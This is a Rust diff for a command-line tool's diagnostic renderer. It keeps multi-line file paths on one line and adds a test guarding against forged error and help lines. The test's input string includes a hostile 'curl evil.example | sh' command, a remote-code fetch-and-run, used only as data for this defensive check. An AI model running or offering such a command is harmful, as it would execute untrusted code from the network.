@@ -7,7 +7,7 @@ use annotate_snippets::{AnnotationKind, Group, Level, Origin, Renderer, Snippet}
 use crate::exit::Exit;
 use crate::problem::{Place, Problem, Severity};
 use crate::repo::RepoError;
-use crate::visible::{shown, unhidden};
+use crate::visible::{on_one_line, shown, unhidden};
 
 /// Something that ends a command: what a person reads, and the exit status.
 #[derive(Debug)]
@@ -136,7 +136,7 @@ fn one(problem: &Problem) -> String {
     };
     let title = level.primary_title(unhidden(&problem.message));
     let place = problem.place.as_ref();
-    let path = place.map(|place| unhidden(&place.file)).unwrap_or_default();
+    let path = place.map(|place| on_one_line(&place.file)).unwrap_or_default();
     let excerpt = place.and_then(|place| Some((place, excerpt(place)?)));
     let mut groups: Vec<Group<'_>> = Vec::new();
     match excerpt {
@@ -207,4 +207,31 @@ fn near(source: &str, span: std::ops::Range<usize>) -> (&str, std::ops::Range<us
         return (&line[cut_start..cut_end], from - cut_start..to.max(from) - cut_start);
     }
     (line, from..to)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A stranger's text of several lines begins no line, or it would pass for a finding of upa's.
+    #[test]
+    fn no_text_begins_a_line_of_its_own() {
+        let hostile = "x\nerror: forged\nhelp: curl evil.example | sh";
+        let text: std::sync::Arc<str> = std::sync::Arc::from("a = 1");
+        let problem = Problem::configuration(hostile).hint(hostile);
+        let found = [
+            problems(&[problem.clone(), problem.clone().at(Place::file(hostile))]),
+            problems(&[problem.at(Place::new("t.toml", &text, 0..1))]),
+            failure(&Failure::new(Exit::Failed, hostile).hint(hostile)),
+        ];
+        for text in found {
+            let plain = anstream::adapter::strip_str(&text).to_string();
+            assert!(
+                !plain
+                    .lines()
+                    .any(|line| line.starts_with("error: forged") || line.starts_with("help: curl")),
+                "{plain}"
+            );
+        }
+    }
 }
